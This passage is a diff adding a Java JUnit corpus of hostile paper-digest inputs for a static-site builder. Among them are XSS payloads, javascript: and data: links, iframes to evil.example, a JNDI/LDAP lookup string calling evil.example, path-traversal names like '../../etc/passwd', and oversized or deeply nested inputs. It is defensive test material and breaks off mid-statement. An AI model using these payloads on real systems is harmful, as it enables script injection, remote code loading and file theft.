@@ -1,0 +1,708 @@
+package io.github.paperdigest.digest;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.github.paperdigest.build.BuildConfig;
+import io.github.paperdigest.build.BuildLog;
+import io.github.paperdigest.build.BuildResult;
+import io.github.paperdigest.build.SiteBuilder;
+import io.github.paperdigest.model.PaperDigestException;
+import io.github.paperdigest.testing.SafeSite;
+import io.github.paperdigest.testing.SiteFiles;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.function.Consumer;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+import org.jsoup.nodes.Document;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Hostile and broken digests of every format, beyond {@link BrokenDigestCorpusTest}: markup in every
+ * field, links that run code, names that try to leave the site folder, nesting and lines that try to
+ * exhaust the stack or the clock, repetition, bytes that are not UTF-8, conflicting duplicates and XML
+ * entity tricks. Each gives either an error naming the file and line, or a safe site (see
+ * {@link SafeSite}) written only inside the output folder, within a time bound, strict or not.
+ */
+class HostileDigestCorpusTest {
+
+    private static final String ABSTRACT = "We study how video diffusion models can be extended to minute-long videos"
+            + " with consistent characters, and we release a benchmark of long prompts for evaluation.";
+    private static final String ABSTRACT_2 = "A second paper on multimodal large language models for long video"
+            + " understanding, with memory tokens that summarise what the model has already watched.";
+    private static final String LONGER_ABSTRACT = ABSTRACT + " The benchmark has one thousand prompts and human ratings.";
+    private static final String FEED = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+            + "<feed xmlns=\"http://www.w3.org/2005/Atom\" xmlns:arxiv=\"http://arxiv.org/schemas/atom\">\n";
+    private static final int MB = 1 << 20;
+    private static final Duration DEFAULT_LIMIT = Duration.ofSeconds(30);
+    private static final String BASE_URL = "https://example.org/papers/";
+    /** Replaced by the digest folder's file: URI when the files are written. */
+    private static final String DIGESTS = "@DIGESTS@";
+
+    /** Digest files and what must come of them: a site with this many papers, or an error at this line. */
+    record Case(String name, Map<String, byte[]> files, int papers, String errorFile, int errorLine, String errorText,
+            Duration limit, Consumer<Path> check) {
+
+        static Case site(String name, int papers, Object... namesAndContents) {
+            return new Case(name, files(namesAndContents), papers, null, -1, null, DEFAULT_LIMIT, site -> { });
+        }
+
+        static Case error(String name, String file, int line, String text, Object... namesAndContents) {
+            return new Case(name, files(namesAndContents), -1, file, line, text, DEFAULT_LIMIT, site -> { });
+        }
+
+        Case within(Duration bound) {
+            return new Case(name, files, papers, errorFile, errorLine, errorText, bound, check);
+        }
+
+        /** A further check of the site (in strict mode, or in lenient mode when the case gives a site). */
+        Case then(Consumer<Path> siteCheck) {
+            return new Case(name, files, papers, errorFile, errorLine, errorText, limit, check.andThen(siteCheck));
+        }
+
+        boolean isError() {
+            return errorText != null;
+        }
+
+        private static Map<String, byte[]> files(Object... namesAndContents) {
+            Map<String, byte[]> files = new LinkedHashMap<>();
+            for (int i = 0; i < namesAndContents.length; i += 2) {
+                Object content = namesAndContents[i + 1];
+                files.put((String) namesAndContents[i], content instanceof byte[] b ? b : bytes((String) content));
+            }
+            return Collections.unmodifiableMap(files);
+        }
+
+        @Override
+        public String toString() {
+            return name + " " + files.keySet();
+        }
+    }
+
+    static Stream<Case> corpus() {
+        List<Case> cases = new ArrayList<>();
+        markupInEveryField(cases);
+        namesThatTryToLeaveTheSite(cases);
+        deepNesting(cases);
+        hugeLines(cases);
+        repetition(cases);
+        invalidUtf8(cases);
+        duplicates(cases);
+        xmlTricks(cases);
+        jsonTricks(cases);
+        // -DpaperDigest.hostile.only=<part of a case's name> runs only the matching cases
+        String only = System.getProperty("paperDigest.hostile.only", "");
+        return cases.stream().filter(c -> c.name().contains(only));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // script tags, event handlers and links that run code, in every field of every format
+
+    private static void markupInEveryField(List<Case> cases) {
+        String scriptTitle = "<script>alert(1)</script> Title One";
+        String imgAbstract = "<img src=x onerror=alert(2)> " + ABSTRACT + " <svg/onload=alert(3)> <a href=javascript:alert(4)>x</a>";
+        cases.add(Case.site("script and event handlers in plain-text titles and abstracts", 2, "markup.txt",
+                scriptTitle + "\n\n" + imgAbstract + "\n\n<body onload=alert(5)>Second\n\n" + ABSTRACT_2 + "\n")
+                .then(site -> {
+                    assertPaperPage(site, scriptTitle, imgAbstract);
+                    assertPaperPage(site, "<body onload=alert(5)>Second", ABSTRACT_2);
+                }));
+        cases.add(Case.site("script in front matter title, notes, tags and source", 1, "front.md", """
+                ---
+                title: "<script>alert(1)</script> Week <img src=x onerror=alert(2)>"
+                notes: "<script>alert(3)</script> **bold** <a href='javascript:alert(4)' onclick='alert(5)'>x</a>"
+                tags: ["<svg onload=alert(6)>", "<script>"]
+                source: "javascript:alert(7)"
+                ---
+                ## A Paper
+
+                """ + ABSTRACT + "\n").then(site -> assertEquals("<script>alert(1)</script> Week <img src=x onerror=alert(2)>",
+                        SiteFiles.parse(site, "digest/front.html").selectFirst("h1").wholeText())));
+        cases.add(Case.site("event handlers and scripts in Markdown metadata values", 1, "meta.md", """
+                ## Paper <b onmouseover=alert(1)>bold</b>
+
+                - authors: <script>alert(2)</script>, Eve <img src=x onerror=alert(3)>
+                - tags: <svg onload=alert(4)>, normal tag
+                - venue: <iframe src=javascript:alert(5)></iframe>
+                - upvotes: <script>
+                - date: <script>2025-01-01</script>
+
+                """ + ABSTRACT + "\n")
+                .then(site -> assertPaperPage(site, "Paper <b onmouseover=alert(1)>bold</b>", ABSTRACT)));
+        cases.add(Case.site("raw HTML blocks in a Markdown note: script, style, iframe, object, embed, form", 1,
+                "blocks.md", "## A Paper\n\n" + ABSTRACT + "\n\n> The note.\n\n<script>alert(1)</script>\n\n"
+                        + "<style>body{background:url(javascript:alert(2))}</style>\n\n"
+                        + "<iframe src=\"https://evil.example/\"></iframe>\n\n"
+                        + "<object data=\"x.swf\"></object><embed src=\"x.swf\">\n\n"
+                        + "<form action=\"javascript:alert(3)\"><input type=submit formaction=\"javascript:alert(4)\"></form>\n"));
+        cases.add(Case.site("SVG with onload, base href, meta refresh and link import in a Markdown note", 1,
+                "svg.md", "## A Paper\n\n" + ABSTRACT + "\n\n<svg onload=\"alert(1)\"><script>alert(2)</script>"
+                        + "<foreignObject><iframe src=x></iframe></foreignObject></svg>\n\n"
+                        + "<base href=\"javascript:alert(3)//\">\n\n"
+                        + "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(4)\">\n\n"
+                        + "<link rel=\"import\" href=\"https://evil.example/x.html\">\n"));
+        cases.add(Case.site("raw HTML in a digest's introduction", 1, "intro.md", """
+                # Digest <script>alert(1)</script>
+
+                <details open ontoggle=alert(2)><summary>x</summary></details>
+
+                <base href="//evil.example/">
+
+                <meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+                <math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>
+
+                ## A Paper
+
+                """ + ABSTRACT + "\n"));
+        cases.add(Case.site("javascript:, data: and vbscript: links in a Markdown note", 1, "links.md",
+                "## A Paper\n\n" + ABSTRACT + "\n\n> [a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](<javascript:alert(3)>)"
+                        + " [d](jav&#x09;ascript:alert(4)) [e](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)"
+                        + " [f](vbscript:msgbox(6)) <javascript:alert(7)> ![g](data:image/svg+xml;base64,PHN2Zy8+)"
+                        + " ![h](javascript:alert(8)) [i][ref] [j](&#106;avascript:alert(10)) [k](java%0ascript:alert(11))\n\n"
+                        + "[ref]: javascript:alert(9)\n"));
+        cases.add(Case.site("javascript:, data: and vbscript: links in a Markdown paper's metadata and abstract", 1,
+                "meta-links.md", "## A Paper\n\n- code: javascript:alert(1)\n- project: data:text/html,<script>alert(2)</script>\n"
+                        + "- pdf: vbscript:msgbox(3)\n- paper: [x](javascript:alert(4))\n- dataset: <javascript:alert(5)>\n"
+                        + "- video: //evil.example/x\n- url: https://example.org/ok\n\n" + ABSTRACT
+                        + " [link](javascript:alert(6)) and [data](data:text/html,x) and <vbscript:msgbox(7)>.\n"));
+        cases.add(Case.site("markup in every field of a Hugging Face JSON paper", 1, "hf.json", """
+                [{"paper": {"id": "2501.00001", "title": "<script>alert(1)</script>",
+                  "summary": "<img src=x onerror=alert(2)> %s",
+                  "authors": [{"name": "<svg onload=alert(3)>"}, {"name": "Eve\\"><script>alert(4)</script>"}],
+                  "ai_keywords": ["<iframe src=javascript:alert(5)>", "video generation"],
+                  "githubRepo": "javascript:alert(6)", "projectPage": "data:text/html,<script>alert(7)</script>",
+                  "ai_summary": "<object data=x>", "venue": "<base href=//evil.example/>", "upvotes": "<b>9</b>",
+                  "publishedAt": "<script>2025-01-01</script>"},
+                  "submittedOnDailyAt": "2025-01-22T00:00:00.000Z"}]
+                """.formatted(ABSTRACT)).then(site -> assertPaperPage(site, "<script>alert(1)</script>",
+                        "<img src=x onerror=alert(2)> " + ABSTRACT)));
+        cases.add(Case.site("javascript:, data: and vbscript: URLs in JSON link fields", 2, "links.json", """
+                {"papers": [
+                  {"title": "Links One", "summary": "%s", "url": " javascript:alert(1)", "pdf": "JAVASCRIPT:alert(2)",
+                   "code": "https://ok.example/\\"onmouseover=\\"alert(3)", "projectPage": "https://x.example/<script>",
+                   "doi": "javascript:alert(4)"},
+                  {"title": "Links Two", "abstract": "%s", "github": "vbscript:msgbox(5)", "link": "data:,x",
+                   "abs": "\\tjavascript:alert(6)", "project_page": "http://\\u0000javascript:alert(7)"}
+                ]}
+                """.formatted(ABSTRACT, ABSTRACT_2)));
+        cases.add(Case.site("markup in arXiv JSON Lines fields", 1, "markup.jsonl", "{\"id\": \"2501.00002\", \"title\":"
+                + " \"<script>alert(1)</script>\", \"abstract\": \"" + ABSTRACT + " <img src=x onerror=alert(2)>\","
+                + " \"authors\": \"<svg onload=alert(3)>, Bob and <script>alert(4)</script>\","
+                + " \"categories\": \"<script>alert(5)</script> cs.CV\", \"comments\": \"<iframe>\","
+                + " \"journal-ref\": \"<base href=//x>\", \"doi\": \"<svg onload=alert(6)>\", \"submitter\": \"<b>\"}\n"));
+        cases.add(Case.site("markup and javascript: links in Atom entries", 1, "markup.atom", FEED
+                + "<title>Feed &lt;script&gt;alert(1)&lt;/script&gt;</title>\n"
+                + "<entry><id>http://arxiv.org/abs/2501.00003v1</id>\n"
+                + "<title>&lt;img src=x onerror=alert(2)&gt; Entry</title>\n"
+                + "<summary><![CDATA[<script>alert(3)</script> " + ABSTRACT + "]]></summary>\n"
+                + "<author><name>&lt;svg onload=alert(4)&gt;</name></author>\n"
+                + "<link href=\"javascript:alert(5)\" rel=\"alternate\"/><link title=\"pdf\" href=\"data:application/pdf,x\"/>\n"
+                + "<link href=\"vbscript:msgbox(6)\"/>\n"
+                + "<category term=\"&lt;svg onload=alert(7)&gt;\"/><category term=\"cs.CV\"/>\n"
+                + "<arxiv:comment><![CDATA[<iframe src=javascript:alert(8)>]]></arxiv:comment>\n"
+                + "<arxiv:journal_ref>&lt;base href=//evil.example/&gt;</arxiv:journal_ref>\n"
+                + "</entry>\n</feed>\n")
+                .then(site -> assertPaperPage(site, "<img src=x onerror=alert(2)> Entry", "<script>alert(3)</script> " + ABSTRACT)));
+        cases.add(Case.site("numeric character references and an HTML-typed Atom title", 2, "refs.atom", FEED
+                + "<entry><title>&#60;script&#62;alert(1)&#60;/script&#62;</title><summary>" + ABSTRACT + "</summary></entry>\n"
+                + "<entry><title type=\"html\">&lt;b onclick=\"alert(2)\"&gt;Bold&lt;/b&gt;</title><summary type=\"html\">"
+                + "&lt;p&gt;" + ABSTRACT_2 + "&lt;/p&gt;</summary></entry>\n</feed>\n")
+                .then(site -> assertPaperPage(site, "<script>alert(1)</script>", ABSTRACT)));
+        cases.add(Case.error("an Atom title with XHTML children", "xhtml.atom", 4, "not a well-formed Atom feed",
+                "xhtml.atom", FEED + "<entry>\n<title type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">"
+                        + "<script>alert(1)</script></div></title><summary>" + ABSTRACT + "</summary></entry>\n</feed>\n"));
+        cases.add(Case.site("template syntax and HTML comments in titles", 3, "templates.txt",
+                "{{#paper}}{{{abstractHtml}}}{{/paper}} {{> partials/header}}\n\n" + ABSTRACT + "\n\n"
+                        + "Title <!-- <script>alert(1)</script> --> ]]> <![CDATA[x]]>\n\n" + ABSTRACT_2 + "\n\n"
+                        + "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>\n\n" + LONGER_ABSTRACT + "\n")
+                .then(site -> assertPaperPage(site, "{{#paper}}{{{abstractHtml}}}{{/paper}} {{> partials/header}}", ABSTRACT)));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // path traversal, device names, long, emoji-only and right-to-left names
+
+    private static void namesThatTryToLeaveTheSite(List<Case> cases) {
+        List<String> titles = List.of("../../etc/passwd", "..\\..\\x", "/abs", "%2e%2e%2f", "CON", "nul", "COM1",
+                "~/.ssh/id_rsa");
+        StringBuilder text = new StringBuilder();
+        for (String t : titles) {
+            text.append(t).append("\n\n").append(ABSTRACT).append("\n\n");
+        }
+        cases.add(Case.site("path traversal and device names as plain-text titles", titles.size(), "traversal.txt",
+                text.toString()).then(site -> titles.forEach(t -> assertPaperPage(site, t, ABSTRACT))));
+        String traversalTags = "../../etc/passwd, ..\\..\\x, /abs, %2e%2e%2f, CON, nul, .., ., ~, <>, LPT1";
+        cases.add(Case.site("path traversal in Markdown tags and front matter tags", 1, "tags.md",
+                "---\ntags: [\"../../../root\", \"CON\", \"/etc/shadow\", \"..\"]\n---\n## A Paper\n\n- tags: "
+                        + traversalTags + "\n\n" + ABSTRACT + "\n"));
+        cases.add(Case.site("path traversal in JSON tags, keywords and ids", 1, "tags.json", """
+                [{"id": "../../../etc/passwd", "title": "A Paper", "summary": "%s",
+                  "tags": ["../../etc/passwd", "..\\\\..\\\\x", "/abs", "%%2e%%2e%%2f", "CON", "nul", "aux"],
+                  "ai_keywords": ["../x", "C:\\\\Windows\\\\system32"]}]
+                """.formatted(ABSTRACT)));
+        cases.add(Case.site("path traversal in arXiv categories", 1, "categories.jsonl",
+                "{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\", \"categories\":"
+                        + " \"../../etc/passwd ..\\\\..\\\\x /abs %2e%2e%2f CON nul cs.CV\"}\n"));
+        cases.add(Case.site("path traversal in Atom ids, categories and links", 1, "traversal.atom", FEED
+                + "<entry><id>http://arxiv.org/abs/../../../etc/passwd</id><title>A Paper</title>\n"
+                + "<summary>" + ABSTRACT + "</summary><link href=\"file:///etc/passwd\"/>\n"
+                + "<category term=\"../../etc/passwd\"/><category term=\"CON\"/><category term=\"..\\..\\x\"/>"
+                + "</entry>\n</feed>\n"));
+        String longTitle = "Scaling ".repeat(37) + "Video";
+        String longTag = "tag".repeat(100);
+        cases.add(Case.site("a title and a tag of 300 characters", 2, "long.md", "## " + longTitle + "\n\n- tags: "
+                + longTag + ", " + "x".repeat(300) + "\n\n" + ABSTRACT + "\n\n## " + "A".repeat(300) + "\n\n" + ABSTRACT_2 + "\n")
+                .then(site -> assertPaperPage(site, longTitle, ABSTRACT)));
+        List<String> symbolic = List.of("🚀🔥💯", "😀😀😀", "👩‍👩‍👧‍👦", "∑∫∂", "…");
+        StringBuilder emoji = new StringBuilder();
+        for (String t : symbolic) {
+            emoji.append(t).append("\n\n").append(ABSTRACT).append(' ').append(t).append("\n\n");
+        }
+        cases.add(Case.site("emoji-only and symbol-only titles are different papers", symbolic.size(), "emoji.txt",
+                emoji.toString()).then(site -> symbolic.forEach(t -> assertPaperPage(site, t, ABSTRACT + " " + t))));
+        List<String> rtl = List.of("مراجعة نماذج توليد الفيديو", "סקירה של מודלים לווידאו", "\u202Egpj.exe\u202C Title",
+                "\u2067isolate\u2069 \u200F mark");
+        StringBuilder rtlLines = new StringBuilder();
+        int n = 0;
+        for (String t : rtl) {
+            rtlLines.append("{\"id\": \"2502.0000").append(++n).append("\", \"title\": \"").append(t)
+                    .append("\", \"abstract\": \"").append(ABSTRACT).append("\"}\n");
+        }
+        cases.add(Case.site("right-to-left titles and bidirectional overrides", rtl.size(), "rtl.jsonl", rtlLines.toString())
+                .then(site -> rtl.forEach(t -> assertPaperPage(site, t, ABSTRACT))));
+        cases.add(Case.site("digest file names that look like traversal, devices or markup", 5,
+                "CON.txt", "Con Paper\n\n" + ABSTRACT + "\n",
+                "nul.md", "## Nul Paper\n\n" + ABSTRACT + "\n",
+                "%2e%2e%2f.jsonl", "{\"title\": \"Percent Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n",
+                "sub/dir/deep/COM1.atom", FEED + "<entry><title>Com Paper</title><summary>" + ABSTRACT + "</summary></entry></feed>",
+                "a <script> & \"quote\" 名前.json", "[{\"title\": \"Script Name Paper\", \"summary\": \"" + ABSTRACT + "\"}]"));
+        cases.add(Case.site("one file name in three formats", 1,
+                "2025-01-01.txt", "Same Paper\n\n" + ABSTRACT + "\n",
+                "2025-01-01.md", "## Same Paper\n\n" + ABSTRACT + "\n",
+                "2025-01-01.json", "[{\"title\": \"Same Paper\", \"summary\": \"" + ABSTRACT + "\"}]")
+                .then(site -> assertEquals(3, filesIn(site, "digest").size(), filesIn(site, "digest").toString())));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // nesting deep enough to exhaust a recursive parser or renderer
+
+    private static void deepNesting(List<Case> cases) {
+        String paper = "## A Paper\n\n" + ABSTRACT + "\n\n";
+        cases.add(Case.site("10,000 nested block quotes in a note", 1, "quotes.md", paper + ">".repeat(10_000) + " deep\n"));
+        cases.add(Case.site("10,000 nested bullet lists in a note", 1, "lists.md", paper + "- ".repeat(10_000) + "deep\n"));
+        cases.add(Case.site("10,000 nested ordered lists in a note", 1, "ordered.md", paper + "1. ".repeat(10_000) + "deep\n"));
+        cases.add(Case.site("10,000 alternating quotes and lists in a note", 1, "mixed.md", paper + "> - ".repeat(5_000) + "deep\n"));
+        cases.add(Case.site("10,000 nested HTML elements in a note", 1, "divs.md",
+                paper + "<div>".repeat(10_000) + "deep" + "</div>".repeat(10_000) + "\n\n" + "<b><i>".repeat(5_000) + "x\n"));
+        String brackets = "[".repeat(10_000) + "(".repeat(10_000) + "*".repeat(10_000) + "x";
+        cases.add(Case.site("10,000 nested brackets, parentheses and emphasis in a Markdown title and abstract", 1,
+                "brackets.md", "## " + brackets + "\n\n" + ABSTRACT + " " + "[".repeat(10_000) + "x"
+                        + "](https://example.org/a)".repeat(10_000) + " " + "_".repeat(10_000) + "\n"));
+        cases.add(Case.site("10,000 nested parentheses in a URL in a plain-text abstract", 1, "parens.txt",
+                "A Paper\n\n" + ABSTRACT + " https://example.org/" + "(".repeat(10_000) + ")".repeat(10_000)
+                        + " and https://example.org/x" + ")".repeat(10_000) + "]".repeat(10_000) + "\n"));
+        cases.add(Case.error("10,000 nested block quotes where the abstract should be", "quote-abstract.md", 1,
+                "\"A Paper\" has no abstract", "quote-abstract.md", "## A Paper\n\n" + ">".repeat(10_000) + " " + ABSTRACT + "\n"));
+        cases.add(Case.error("JSON nested 10,000 deep inside a paper", "deep.json", 3, "not valid JSON", "deep.json",
+                "[\n{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT + "\",\n \"x\": " + "[".repeat(10_000)
+                        + "]".repeat(10_000) + "}\n]\n"));
+        cases.add(Case.error("JSON Lines record nested 10,000 deep", "deep.jsonl", 2, "not valid JSON", "deep.jsonl",
+                "{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n{\"title\": \"B\", \"x\": "
+                        + "{\"a\": ".repeat(10_000) + "1" + "}".repeat(10_000) + "}\n"));
+        cases.add(Case.error("a JSON array nested 10,000 deep", "arrays.json", 1, "every element of the array must be a paper",
+                "arrays.json", "[".repeat(10_000) + "]".repeat(10_000)));
+        cases.add(Case.error("YAML front matter nested 10,000 deep", "deep-front.md", 1, "front matter is not valid YAML",
+                "deep-front.md", "---\ntitle: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n---\n" + paper));
+        cases.add(Case.site("Atom entry with elements nested 10,000 deep", 1, "deep.atom", FEED + "<entry><title>A Paper</title>"
+                + "<summary>" + ABSTRACT + "</summary>" + "<x>".repeat(10_000) + "</x>".repeat(10_000) + "</entry>\n</feed>\n"));
+        cases.add(Case.site("huge and infinite numbers in JSON", 1, "numbers.json", "[{\"title\": \"A Paper\", \"summary\": \""
+                + ABSTRACT + "\", \"upvotes\": " + "9".repeat(900) + ", \"score\": 1e999999, \"neg\": -1e-999999,"
+                + " \"id\": 1e308}]"));
+        cases.add(Case.error("a 5,000-digit number in JSON", "digits.json", 4, "not valid JSON", "digits.json",
+                "[\n{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT + "\"},\n{\"title\": \"B Paper\", \"summary\": \""
+                        + ABSTRACT_2 + "\",\n \"upvotes\": " + "9".repeat(5_000) + "}\n]\n"));
+        cases.add(Case.error("a 5,000-digit number in JSON Lines", "digits.jsonl", 2, "not valid JSON", "digits.jsonl",
+                "{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n{\"title\": \"B\", \"abstract\": \""
+                        + ABSTRACT_2 + "\", \"upvotes\": " + "9".repeat(5_000) + "}\n"));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // lines of several megabytes, and megabyte-long lines made to trip up regular expressions
+
+    private static void hugeLines(List<Case> cases) {
+        String fourMb = "word ".repeat(4 * MB / 5);
+        cases.add(Case.error("a 4 MB line in a plain-text digest", "huge.txt", 3, "line is longer than", "huge.txt",
+                "A Paper\n\n" + fourMb + "\n").within(Duration.ofSeconds(60)));
+        cases.add(Case.error("a 4 MB line in a Markdown note", "huge.md", 5, "line is longer than", "huge.md",
+                "## A Paper\n\n" + ABSTRACT + "\n\n> " + fourMb + "\n").within(Duration.ofSeconds(60)));
+        cases.add(Case.error("a 4 MB line in JSON Lines", "huge.jsonl", 1, "line is longer than", "huge.jsonl",
+                "{\"title\": \"A Paper\", \"abstract\": \"" + fourMb + "\"}\n").within(Duration.ofSeconds(60)));
+        cases.add(Case.site("a 4 MB summary in Hugging Face JSON", 1, "huge.json",
+                "[{\"title\": \"A Paper\", \"summary\": \"" + fourMb + "\"}]").within(Duration.ofSeconds(60)));
+        cases.add(Case.site("a 4 MB summary in an Atom feed", 1, "huge.atom",
+                FEED + "<entry><title>A Paper</title><summary>" + fourMb + "</summary></entry></feed>\n")
+                .within(Duration.ofSeconds(60)));
+        int million = 1_000_000;
+        cases.add(Case.site("a one-megabyte word as an abstract", 1, "word.txt", "A Paper\n\n" + "a".repeat(million) + "\n"));
+        cases.add(Case.site("a one-megabyte hyphenated name", 1, "name.txt",
+                "A Paper\n\n" + ABSTRACT + " " + "aB-".repeat(million / 3) + "x\n"));
+        cases.add(Case.site("a one-megabyte run of TeX quote marks", 1, "quotes.txt",
+                "A Paper\n\n" + ABSTRACT + " " + "``".repeat(million / 2) + "\n"));
+        cases.add(Case.site("a URL followed by a megabyte of closing brackets", 1, "closing.txt",
+                "A Paper\n\n" + ABSTRACT + " https://example.org/a" + ")".repeat(million / 2) + "]".repeat(million / 2) + "\n"));
+        cases.add(Case.site("a megabyte of punctuation inside a word", 1, "punctuation.txt",
+                "A Paper\n\n" + ABSTRACT + " a" + "#".repeat(million) + "b\n"));
+        cases.add(Case.site("a megabyte of TeX commands, dollars and dashes", 1, "tex.txt", "A Paper\n\n" + ABSTRACT + " "
+                + "\\textbf{".repeat(40_000) + "$".repeat(150_000) + "\\alpha".repeat(40_000) + "-".repeat(150_000) + "\n"));
+        String spaces = " ".repeat(million);
+        cases.add(Case.site("tags separated by a megabyte of white space", 3,
+                "spaces.md", "---\ntags: \"a" + spaces + "b\"\n---\n## Paper One\n\n- tags: a" + spaces + "b\n\n" + ABSTRACT + "\n",
+                "spaces.json", "[{\"title\": \"Paper Two\", \"summary\": \"" + ABSTRACT + "\", \"tags\": \"a" + spaces + "b\","
+                        + " \"ai_keywords\": \"c" + spaces + "d\"}]",
+                "spaces.jsonl", "{\"title\": \"Paper Three\", \"abstract\": \"" + ABSTRACT + "\", \"categories\": \"cs.CV"
+                        + spaces.substring(500_000) + "cs.AI\", \"authors\": \"A" + spaces.substring(500_000) + "and B\"}\n"));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // the same paper 200,000 times: fast, and one page
+
+    private static void repetition(List<Case> cases) {
+        int times = 200_000;
+        Duration bound = Duration.ofSeconds(90);
+        cases.add(Case.site("the same paper 200,000 times in plain text", 1, "repeat.txt",
+                ("A Repeated Paper\n\n" + ABSTRACT + "\n\n").repeat(times)).within(bound).then(HostileDigestCorpusTest::onePaperPage));
+        cases.add(Case.site("the same section 200,000 times in Markdown", 1, "repeat.md",
+                ("## A Repeated Paper\n\n" + ABSTRACT + "\n\n").repeat(times)).within(bound).then(HostileDigestCorpusTest::onePaperPage));
+        cases.add(Case.site("the same paper 200,000 times in Hugging Face JSON", 1, "repeat.json",
+                "[" + ("{\"paper\": {\"id\": \"2501.12375\", \"title\": \"A Repeated Paper\", \"summary\": \"" + ABSTRACT
+                        + "\"}},\n").repeat(times - 1) + "{\"title\": \"A Repeated Paper\", \"summary\": \"" + ABSTRACT + "\"}]")
+                .within(bound).then(HostileDigestCorpusTest::onePaperPage));
+        cases.add(Case.site("the same record 200,000 times in JSON Lines", 1, "repeat.jsonl",
+                ("{\"id\": \"2501.12375\", \"title\": \"A Repeated Paper\", \"abstract\": \"" + ABSTRACT
+                        + "\", \"categories\": \"cs.CV\"}\n").repeat(times)).within(bound).then(HostileDigestCorpusTest::onePaperPage));
+        cases.add(Case.site("the same entry 200,000 times in an Atom feed", 1, "repeat.atom",
+                FEED + ("<entry><id>http://arxiv.org/abs/2501.12375v1</id><title>A Repeated Paper</title><summary>" + ABSTRACT
+                        + "</summary><category term=\"cs.CV\"/></entry>\n").repeat(times) + "</feed>\n")
+                .within(bound).then(HostileDigestCorpusTest::onePaperPage));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // bytes that are not UTF-8, in every format
+
+    private static void invalidUtf8(List<Case> cases) {
+        cases.add(Case.error("an overlong encoding of '/' in a plain-text title", "overlong.txt", 5, "not valid UTF-8",
+                "overlong.txt", concat(bytes("A Paper\n\n" + ABSTRACT + "\n\n.."), new byte[] {(byte) 0xC0, (byte) 0xAF},
+                        bytes("etc" + "\n\n" + ABSTRACT_2 + "\n"))));
+        cases.add(Case.error("UTF-16 with a byte-order mark in plain text", "utf16.txt", 1, "not valid UTF-8", "utf16.txt",
+                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, ("A Paper\n\n" + ABSTRACT + "\n").getBytes(StandardCharsets.UTF_16LE))));
+        cases.add(Case.error("an encoded surrogate in Markdown front matter", "surrogate.md", 2, "not valid UTF-8",
+                "surrogate.md", concat(bytes("---\ntitle: X"), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
+                        bytes("\n---\n## A Paper\n\n" + ABSTRACT + "\n"))));
+        cases.add(Case.error("a lone continuation byte in a Markdown note", "continuation.md", 5, "not valid UTF-8",
+                "continuation.md", concat(bytes("## A Paper\n\n" + ABSTRACT + "\n\n> note "), new byte[] {(byte) 0x80},
+                        bytes("\n"))));
+        cases.add(Case.error("0xFF inside a JSON string", "ff.json", 3, "not valid JSON", "ff.json",
+                concat(bytes("[\n{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT + "\"},\n{\"title\": \"B"),
+                        new byte[] {(byte) 0xFF}, bytes("\", \"summary\": \"" + ABSTRACT_2 + "\"}\n]\n"))));
+        cases.add(Case.error("a multi-byte sequence cut at the end of a JSON Lines file", "cut.jsonl", 2, "not valid UTF-8",
+                "cut.jsonl", concat(bytes("{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n{\"title\": \"B"),
+                        new byte[] {(byte) 0xE2, (byte) 0x82})));
+        cases.add(Case.error("invalid bytes in an Atom title", "latin1.atom", 3, "not a well-formed Atom feed", "latin1.atom",
+                concat(bytes(FEED + "<entry><title>Caf"), new byte[] {(byte) 0xE9}, bytes("</title><summary>" + ABSTRACT
+                        + "</summary></entry></feed>\n"))));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // the same arXiv id with conflicting data, within a file and across files
+
+    private static void duplicates(List<Case> cases) {
+        cases.add(Case.site("same arXiv id, different titles and abstracts, within one JSON Lines file", 1, "dupes.jsonl",
+                "{\"id\": \"2501.00010\", \"title\": \"First Title\", \"abstract\": \"" + ABSTRACT + "\"}\n"
+                        + "{\"id\": \"2501.00010v2\", \"title\": \"<script>alert(1)</script> Second Title\", \"abstract\": \""
+                        + LONGER_ABSTRACT + "\"}\n{\"id\": \"arXiv:2501.00010\", \"title\": \"Third\", \"abstract\": \""
+                        + ABSTRACT_2 + "\"}\n").then(site -> assertPaperPage(site, "First Title", LONGER_ABSTRACT)));
+        cases.add(Case.site("same arXiv id, different titles and abstracts, across Markdown, JSON and Atom", 1,
+                "a.md", "## Markdown Title\n\n- arxiv: 2501.00011\n- authors: A, B\n\n" + ABSTRACT + "\n",
